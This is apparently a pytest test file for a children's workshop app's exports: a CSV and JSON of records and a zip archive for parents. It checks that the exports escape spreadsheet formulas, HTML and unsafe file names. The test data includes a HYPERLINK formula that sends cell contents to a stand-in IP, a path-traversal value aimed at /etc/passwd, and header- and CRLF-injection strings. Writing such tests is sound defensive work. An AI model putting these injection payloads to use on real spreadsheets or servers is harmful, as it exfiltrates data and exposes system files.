"""Records taken elsewhere: CSV and JSON of a workshop, and what parents take home."""

import csv
import io
import json
import time
import zipfile
from dataclasses import fields
from datetime import date, datetime
from typing import Any

import pytest
from askers import Club
from fastapi.testclient import TestClient
from PIL import Image

from api.file_names import file_name
from api.finished import Shown
from api.record_export import Line, harmless, records_csv
from api.records import KeptSculpture, Stored
from api.records.stored import LEFT_OUT
from api.records.tables import CallRow, CaseRow, DraftRow, PhotoRow, SculptureRow
from api.workshop_schemas import Challenge

WORKSHOP = {
    "name": "Tuesday club",
    "day": "2026-11-24",
    "challenge": {"rules": [{"rule": "lights-lit", "at_least": 1}, {"rule": "time-limit", "minutes": 45}]},
}
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1;"look")'


def sculpture(client: TestClient, workshop: str, bench: str, case: dict[str, Any] | None, **told: Any) -> str:
    """A sculpture, with an inspection of a photo of its own if there is a case."""
    one = client.post(f"/workshops/{workshop}/sculptures", json={"bench": bench}).json()["id"]
    if case is not None:
        photo = client.post("/photos", files={"photo": picture()}).json()["id"]
        assert client.put(f"/sculptures/{one}/photos/{photo}").status_code == 204
        assert client.post("/inspections", json={**case, "photo": photo}).status_code == 201
    assert client.put(f"/sculptures/{one}?after=1", json=told).status_code == 200
    return str(one)


def picture() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (400, 300), (200, 30, 30)).save(out, "JPEG")
    return out.getvalue()


@pytest.fixture
def client(club: Club) -> TestClient:
    return club.owner


@pytest.fixture
def workshop(client: TestClient) -> str:
    return str(client.post("/workshops", json=WORKSHOP).json()["id"])


def table(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_table_has_a_line_for_each_sculpture(
    client: TestClient, case: dict[str, Any], workshop: str
) -> None:
    seen = [{**led, "seen": "bright"} for led in case["leds"]]
    sculpture(
        client, workshop, "10", {**case, "leds": seen}, title='The "owl", large', maker="M\u00f6\u00f6th"
    )
    sculpture(client, workshop, "9", None, learned="Look twice.", finished=True)
    answer = client.get(f"/workshops/{workshop}/records.csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="tuesday-club-records.csv"'
    # RFC 4180: lines end with CRLF, quotes within quoted cells are doubled; the mark is U+FEFF in UTF-8.
    assert answer.content.startswith(b'\xef\xbb\xbf"bench","title"')
    assert answer.content.count(b"\r\n") == answer.content.count(b"\n") == 3
    assert b'"The ""owl"", large"' in answer.content
    nine, ten = table(answer.content)
    assert (nine["bench"], nine["lights lit"], nine["learned"]) == ("9", "", "Look twice.")
    assert (ten["title"], ten["maker"]) == ('The "owl", large', "M\u00f6\u00f6th")
    assert (ten["lights lit"], ten["lights"], ten["1 light lit or more"]) == ("1", "1", "met")
    assert ten["findings before"] == ""  # before and after are the same photo
    (finished,) = (name for name in nine if name.startswith("finished (UTC"))
    assert (ten[finished], len(nine[finished])) == ("", len("2026-11-24 10:15"))


@pytest.mark.skipif(not hasattr(time, "tzset"), reason="the zone of a process is set as POSIX has it")
@pytest.mark.parametrize(
    ("zone", "head", "clock"), [("UTC0", "UTC", "10:15"), ("XYZ-5:30", "UTC+05:30", "15:45")]
)
def test_times_in_the_table_say_their_zone(
    monkeypatch: pytest.MonkeyPatch, zone: str, head: str, clock: str
) -> None:
    begun = datetime(2026, 11, 24, 10, 15)
    one = KeptSculpture("s", "w", "7", "", "", "", None, None, False, begun, None, 1)
    monkeypatch.setenv("TZ", zone)
    time.tzset()
    try:
        (line,) = table(records_csv(Challenge(), [Line(one, Shown(None, None), ())]))
    finally:
        monkeypatch.undo()
        time.tzset()
    assert line[f"started ({head})"] == f"2026-11-24 {clock}"


def test_no_cell_is_a_formula(client: TestClient, workshop: str) -> None:
    """CWE-1236; OWASP ASVS 5.0, requirement 1.2.10."""
    sculpture(client, workshop, "=1+1", None, title=FORMULA, maker="@SUM(1+9)", learned="-2+3")
    (line,) = table(client.get(f"/workshops/{workshop}/records.csv").content)
    assert [line[name] for name in ("bench", "title", "maker", "learned")] == [
        "'=1+1",
        f"'{FORMULA}",
        "'@SUM(1+9)",
        "'-2+3",
    ]


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", " =", "\t="])
def test_what_begins_like_a_formula_gets_a_quote(first: str) -> None:
    assert harmless(f"{first}1") == f"'{first}1"


@pytest.mark.parametrize("text", ["", "7", "owl", "a=b", "'=1"])
def test_other_cells_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


def test_the_data_has_numbers_and_codes(client: TestClient, case: dict[str, Any], workshop: str) -> None:
    one = sculpture(client, workshop, "7", case, title=FORMULA)
    photo = client.post("/photos", files={"photo": picture()}).json()["id"]
    client.put(f"/sculptures/{one}/photos/{photo}")
    client.post("/inspections", json={**case, "photo": photo})
    answer = client.get(f"/workshops/{workshop}/records.json")
    assert answer.headers["content-disposition"] == 'attachment; filename="tuesday-club-records.json"'
    told = answer.json()
    assert (told["schema"], told["workshop"]["name"]) == ("doughsight-records/1", "Tuesday club")
    (line,) = told["sculptures"]
    assert (line["title"], line["lit"], line["lights"]) == (FORMULA, 0, [{"id": "L1", "state": "off"}])
    assert [one["verdict"] for one in line["criteria"]] == ["not-met", "cannot-tell"]
    assert [(one["code"], one["level"]) for one in line["findings_before"]] == [("leg-out", "fix")]
    assert line["started"].endswith("Z")


def test_parents_take_all_of_it_home(client: TestClient, case: dict[str, Any], workshop: str) -> None:
    one = sculpture(client, workshop, "7", case, title="../<b>Owl</b>", maker="Moth", finished=True)
    answer = client.get(f"/sculptures/{one}/parents.zip")
    assert answer.headers["content-disposition"] == 'attachment; filename="b-owl-b-for-parents.zip"'
    archive = zipfile.ZipFile(io.BytesIO(answer.content))
    assert archive.testzip() is None
    names = ["letter.html", "photos/1.jpg", "sheet.pdf", "card.pdf", "record.json"]
    assert archive.namelist() == names
    record = json.loads(archive.read("record.json"))
    assert record["photos"][0]["file"] == "photos/1.jpg"
    assert record["inspections"][0]["report"]["findings"][0]["code"] == "leg-out"
    assert record["sculpture"]["maker"] == "Moth"
    assert archive.read("photos/1.jpg") == client.get(f"/photos/{record['photos'][0]['id']}").content
    assert archive.read("sheet.pdf").startswith(b"%PDF-")
    letter = archive.read("letter.html").decode()
    assert "&lt;b&gt;Owl&lt;/b&gt;" in letter and "<b>" not in letter
    last = date.fromisoformat(client.get(f"/workshops/{workshop}").json()["deleted_on"])
    assert f"{last:%B} {last.day}, {last.year}" in letter


def test_all_that_is_stored_is_told(client: TestClient, case: dict[str, Any], workshop: str) -> None:
    """Every column of every table: whoever adds one decides whether parents get it."""
    one = sculpture(client, workshop, "7", case)
    records = client.app.state.parts.records  # type: ignore[attr-defined]
    records.calls.ask(workshop, one)
    photo = records.sculptures.stored(one).photos[0]["id"]
    draft = client.post("/drafts", json={"photo": photo, "job": {}})
    assert draft.status_code == 201, draft.json()
    stored = records.sculptures.stored(one)
    tables = (SculptureRow, PhotoRow, CaseRow, DraftRow, CallRow)
    for part, row in zip(fields(Stored), tables, strict=True):
        told = getattr(stored, part.name)
        (only,) = told if isinstance(told, list) else [told]
        assert set(only) == {column.key for column in row.__table__.columns} - LEFT_OUT, part.name


@pytest.mark.parametrize(
    ("name", "file"),
    [
        ("Night owl", "night-owl-sheet.pdf"),
        ("../../etc/passwd", "etc-passwd-sheet.pdf"),
        ('a"; filename="b', "a-filename-b-sheet.pdf"),
        ("\u6f22\u5b57\r\nX: y", "x-y-sheet.pdf"),
        ("\u0628\u0648\u0645\u0629", "sheet.pdf"),
        ("x" * 500, "x" * 40 + "-sheet.pdf"),
    ],
)
def test_names_of_files_are_plain(name: str, file: str) -> None:
    assert file_name(name, "sheet", kind="pdf") == file
